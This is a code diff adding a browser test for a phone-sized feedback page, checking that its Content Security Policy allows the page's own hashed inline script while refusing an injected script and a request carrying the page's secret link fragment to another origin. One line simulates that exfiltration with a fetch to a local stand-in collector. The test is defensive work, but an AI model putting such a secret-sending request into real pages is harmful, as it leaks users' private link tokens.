@@ -123,4 +123,29 @@ describe('the feedback page on a phone', () => {
       await expectAccessible(page);
     });
   });
+
+  it('runs its own early form call, and refuses a script or a call an attacker injects', async () => {
+    await withPage(async (page) => {
+      await page.setViewportSize(PHONE);
+      await page.addInitScript('window.lenaRefused = []; document.addEventListener("securitypolicyviolation", (event) => window.lenaRefused.push(event.effectiveDirective));');
+      await page.goto(`${stack.clientPortalUrl}/feedback.html#${randomBytes(32).toString('base64url')}`);
+      await page.getByRole('heading', { level: 1, name: 'We do not recognise this link' }).waitFor();
+      // Nothing of the page's own was refused: its inline early call is allowed by its hash.
+      expect(await page.evaluate('window.lenaRefused')).toEqual([]);
+      // Injected as a cross-site script would be: an inline script, then a call carrying the page's secret elsewhere.
+      const injected = await page.evaluate(`new Promise((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) => resolve({ refused: event.effectiveDirective, ran: window.lenaInjected === true }), { once: true });
+        const script = document.createElement('script');
+        script.textContent = 'window.lenaInjected = true';
+        document.head.append(script);
+        if (window.lenaInjected === true) resolve({ refused: null, ran: true });
+      })`);
+      expect(injected).toEqual({ refused: 'script-src-elem', ran: false });
+      const sent = await page.evaluate(`new Promise((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) => resolve({ refused: event.effectiveDirective, to: new URL(event.blockedURI).origin }), { once: true });
+        fetch('http://127.0.0.1:9/collect?secret=' + encodeURIComponent(location.hash)).then(() => resolve({ refused: null }), () => {});
+      })`);
+      expect(sent).toEqual({ refused: 'connect-src', to: 'http://127.0.0.1:9' });
+    });
+  });
 });
